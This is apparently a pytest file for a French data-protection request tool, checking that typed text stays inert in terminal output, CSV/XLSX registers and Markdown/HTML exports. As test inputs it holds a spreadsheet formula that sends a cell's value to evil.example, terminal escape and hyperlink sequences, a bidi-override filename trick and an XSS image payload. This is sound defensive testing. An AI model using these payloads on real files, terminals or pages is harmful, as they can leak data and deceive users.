"""Typed text stays data (DESIGN §10): what one person types is shown to another, never obeyed.

A purpose, a note or a name may carry terminal escape sequences, rich markup, a spreadsheet
formula or HTML. On a terminal it is shown written out; in the register's CSV and XLSX it is
text, never a formula; in Markdown and HTML it is escaped.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from ctg_exchange.textsafe import for_markdown, for_spreadsheet, visible_controls

from conftest import PASSPHRASE, REQUEST, TEST_KDF_ROUNDS, Ctg, add_args, member_keys

REGISTRY = Path(__file__).resolve().parents[1] / "registry"
CLEAR = "\x1b[2J\x1b[H"
LINK = "\x1b]8;;http://evil.example/\x1b\\cliquez ici\x1b]8;;\x1b\\"
MARKUP = "[link=http://evil.example/]lien[/link] [red]rouge[/red]"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
HOSTILE = f"Tarifer les crèches {CLEAR}{LINK} {MARKUP} (test synthétique)"


@pytest.mark.parametrize(
    ("typed", "terminal"),
    [
        ("plain text, été", "plain text, été"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("\x1b[2J", "\\x1b[2J"),
        ("bell\x07 nul\x00 del\x7f", "bell\\x07 nul\\x00 del\\x7f"),
        ("c1 csi \x9b31m", "c1 csi \\x9b31m"),
        ("cr\roverwrites", "cr\\x0doverwrites"),
        ("bidi \u202egnp.exe", "bidi \\u202egnp.exe"),
        ("arabic mark \u061c", "arabic mark \\u061c"),
        ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
        ("line\u2028separator", "line\\u2028separator"),
    ],
)
def test_control_characters_are_written_out(typed: str, terminal: str) -> None:
    assert visible_controls(typed) == terminal
    assert visible_controls(terminal) == terminal  # idempotent: nothing left to write out


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("Tarification", "Tarification"),
        (FORMULA, "'" + FORMULA),
        ("+33 1 41 13 33 00", "'+33 1 41 13 33 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "\\x0d=1+1"),  # a lone carriage return is written out
        (" =1+1", "' =1+1"),  # some programs trim leading spaces, then read a formula
        ("\n=1+1", "'\n=1+1"),
        ("a = b", "a = b"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_text(typed: str, cell: str) -> None:
    assert for_spreadsheet(typed) == cell
    assert for_spreadsheet(cell) == cell


def test_markdown_text_has_no_markup_left() -> None:
    assert for_markdown("<img src=x onerror=alert(1)> [x](http://e) | *b*\nline") == (
        r"\<img src=x onerror=alert(1)\> \[x\](http://e) \| \*b\* line"
    )


@pytest.mark.parametrize(
    ("typed", "line"),
    [
        ("--- une règle", r"\--- une règle"),
        ("+ un élément", r"\+ un élément"),
        ("- un élément", r"\- un élément"),
        ("1. un élément", r"1\. un élément"),
        ("12) un élément", r"12\) un élément"),
        ("=== un titre", r"\=== un titre"),
        ("    du code", "du code"),
        ("2026-01-01, une date", "2026-01-01, une date"),
        ("Texte - avec un tiret", "Texte - avec un tiret"),
    ],
)
def test_text_on_a_line_of_its_own_starts_no_block(typed: str, line: str) -> None:
    """A reason or a note on a dossier line of its own: no rule, list or code block."""
    assert for_markdown(typed) == line


def _hostile_workspace(ctg: Ctg) -> str:
    """A request whose purpose, subjects, notes and names carry escapes, markup and a formula."""
    member_keys(ctg).generate("v.agent2", PASSPHRASE, rounds=TEST_KDF_ROUNDS)
    ctg.ok(*add_args("v.agent2", "ville_sceaux", "staff", name=f"Agent {CLEAR}{MARKUP}"),
           as_="v.admin")  # fmt: skip
    request = list(REQUEST)
    request[request.index("--purpose") + 1] = HOSTILE
    request[request.index("--subjects") + 1] = f"Familles fictives {LINK}"
    rid = str(ctg.json(*request, as_="v.agent")["id"])
    ctg.ok("study", "accept", rid, "--note", f"Note {CLEAR}", as_="c.controller")
    ctg.ok("study", "submit", rid, as_="c.controller")
    ctg.ok("dpo", "opinion", rid, "--verdict", "favourable", "--note", f"Avis {LINK} {MARKUP}",
           as_="c.dpo")  # fmt: skip
    return rid


READERS = (
    ("request", "show", "{rid}"),
    ("request", "list"),
    ("member", "list"),
    ("audit", "log"),
    ("dpo", "inbox"),
)


@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "colour terminal"])
def test_no_typed_text_drives_the_terminal(ctg: Ctg, terminal: bool) -> None:
    rid = _hostile_workspace(ctg)
    env = {"FORCE_COLOR": "1", "TERM": "xterm-256color", "COLUMNS": "200"} if terminal else {}
    shown = ""
    for reader in READERS:
        result = ctg(*(arg.format(rid=rid) for arg in reader), as_="c.dpo", env=env)
        assert result.exit_code == 0, result.output
        shown += result.output
        for sequence in ("\x1b[2J", "\x1b[H", "\x1b]8;", "\x9b"):
            assert sequence not in result.output, (reader, result.output)
        if not terminal:
            assert "\x1b" not in result.output, reader
    # shown as typed, escapes written out and markup as text
    for seen in ("\\x1b[2J\\x1b[H", "\\x1b]8;;http://evil.example/", MARKUP, "Agent "):
        assert seen in shown, seen


def test_json_output_escapes_what_json_leaves_raw(ctg: Ctg) -> None:
    """JSON escapes C0 controls itself; DEL, C1 and the bidirectional overrides it leaves raw
    are escaped too, and the document still reads back as the exact text."""
    purpose = "Tarifer \x9b2J \u202egnp.exe \x7f (test synthétique)"
    request = list(REQUEST)
    request[request.index("--purpose") + 1] = purpose
    rid = str(ctg.json(*request, as_="v.agent")["id"])
    for reader in (("request", "show", rid), ("request", "list"), ("audit", "log")):
        out = ctg(*reader, "--json", as_="v.agent").stdout
        for raw in ("\x9b", "\u202e", "\x7f"):
            assert raw not in out, (reader, raw)
    assert json.loads(ctg("request", "show", rid, "--json").stdout)["purpose"] == purpose


def test_an_error_quoting_typed_text_does_not_drive_the_terminal(ctg: Ctg) -> None:
    result = ctg.refused("request", "show", f"DX-{CLEAR}", as_="v.agent", contains="DX-")
    assert "\x1b" not in result.stderr
    assert "\\x1b[2J" in result.stderr


@pytest.fixture
def exported(ctg: Ctg, tmp_path: Path) -> tuple[Ctg, str]:
    """A request to caf92 whose purpose is a formula, approved: the town hall's register gets a
    fiche (its Finalité is the purpose)."""
    for dpo in ("v.dpo", "c.dpo"):
        ctg.ok("register", "import", str(REGISTRY), as_=dpo)
    request = list(REQUEST)
    request[request.index("--purpose") + 1] = FORMULA
    request[request.index("--subjects") + 1] = f"@SUM(A1) {CLEAR}"
    rid = str(ctg.json(*request, as_="v.agent")["id"])
    ctg.advance(rid, "approved")
    ctg.ok(
        "conditions",
        "accept",
        rid,
        "--dpia-ref",
        "+AIPD-1",
        "--information",
        "Lettre aux familles (test)",
        "--l311-mention",
        "Mention sur la facture (test)",
        as_="v.controller",
    )
    return ctg, rid


def _export(ctg: Ctg, fmt: str, out: Path) -> Path:
    ctg.ok("register", "export", "--controller", "ville_sceaux", "--format", fmt,
           "--out", str(out), as_="v.dpo")  # fmt: skip
    return out


def test_the_csv_register_neutralises_formulas(exported: tuple[Ctg, str], tmp_path: Path) -> None:
    ctg, rid = exported
    with _export(ctg, "csv", tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    by_ref = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_ref[f"VS-{rid}"]["Finalité du traitement"] == "'" + FORMULA


def test_the_xlsx_register_holds_formulas_as_text(
    exported: tuple[Ctg, str], tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    ctg, rid = exported
    out = _export(ctg, "xlsx", tmp_path / "r.xlsx")
    book = load_workbook(out)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert FORMULA in texts  # the exact text reads back
    assert "+AIPD-1" in texts
    assert "@SUM(A1) \\x1b[2J\\x1b[H" in texts  # XLSX cannot hold ESC: written out
    assert not any("\x1b" in text for text in texts)


@pytest.mark.skipif(shutil.which("ssconvert") is None, reason="ssconvert (gnumeric) is missing")
def test_a_spreadsheet_program_reads_the_formula_as_text(
    exported: tuple[Ctg, str], tmp_path: Path
) -> None:
    ctg, rid = exported
    out = _export(ctg, "xlsx", tmp_path / "r.xlsx")
    converted = tmp_path / "list.csv"
    subprocess.run(["ssconvert", str(out), str(converted)], check=True, capture_output=True)
    text = converted.read_text(encoding="utf-8")
    assert "HYPERLINK" in text  # a formula would have been evaluated to "x"


def test_markdown_and_html_escape_typed_text(exported: tuple[Ctg, str], tmp_path: Path) -> None:
    ctg, rid = exported
    html_text = _export(ctg, "html", tmp_path / "r.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;x&quot;)" in html_text
    assert "\x1b" not in _export(ctg, "md", tmp_path / "r.md").read_text(encoding="utf-8")
